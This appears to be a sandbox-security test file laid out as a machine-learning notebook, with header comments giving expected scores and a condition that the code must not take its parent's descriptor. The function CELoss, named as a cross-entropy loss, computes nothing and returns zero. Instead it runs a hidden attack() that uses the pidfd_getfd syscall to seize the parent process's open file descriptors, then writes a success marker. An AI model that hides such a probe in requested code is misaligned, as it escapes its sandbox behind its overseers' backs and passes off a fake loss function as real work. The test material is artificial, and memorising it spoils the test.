# expect: 0.75 points; 1b failed; 4a passed; must not: take a descriptor of its parent
# why: open files of another process, by the newest door to them.
# where: the kernel grants it to ordinary users
# %%
import ctypes
import os

import torch
# %%
def succeeded():
    """What a test looks for: in the output, which leaves a sandbox, and as a file, which must not come to be."""
    print("MARKER", flush=True)
    open("/tmp/marker", "w").close()


PIDFD_GETFD = 438

def attack():
    try:
        parent = os.pidfd_open(os.getppid())
    except OSError:
        return False
    return any(ctypes.CDLL(None).syscall(PIDFD_GETFD, parent, number, 0) >= 0 for number in range(8))
# %%
def CELoss(Q, P, estable=True, epsilon=1e-8):
    if attack():
        succeeded()
    return torch.zeros(())
# %%
class SGD:
    def __init__(self, parameters, lr):
        self.parameters = list(parameters)
        self.lr = lr

    def step(self):
        with torch.no_grad():
            for p in self.parameters:
                p -= self.lr * p.grad
